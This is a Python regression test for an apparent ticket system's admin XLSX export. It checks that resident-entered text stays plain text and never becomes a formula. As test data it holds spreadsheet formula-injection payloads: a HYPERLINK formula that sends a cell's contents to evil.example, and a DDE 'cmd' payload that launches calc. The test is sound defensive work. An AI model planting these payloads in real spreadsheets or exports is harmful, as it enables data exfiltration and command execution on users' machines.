"""Finding 3: what a resident typed comes out of the ticket export as text, never a formula
(the place skipped the old guard; a leading blank was stripped and became a formula)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from backend.core.db import commit
from backend.tickets.models import TicketKind
from tests.admin.conftest import login

PLACE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DDE = " =cmd|' /C calc'!A0"


def test_the_ticket_export_has_no_formula_cell(client, world):
    world.ticket(kind=TicketKind.complaint, location=PLACE, description=DDE)
    world.ticket(kind=TicketKind.complaint, location="@SUM(1)", description="\t-1+1")
    commit()
    login(client, world.desk)

    response = client.get("/admin/tickets/export.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert PLACE in values and "@SUM(1)" in values
    assert any(isinstance(v, str) and v.lstrip().startswith("=cmd|") for v in values)
    assert not any(isinstance(v, str) and v.startswith("'") for v in values)
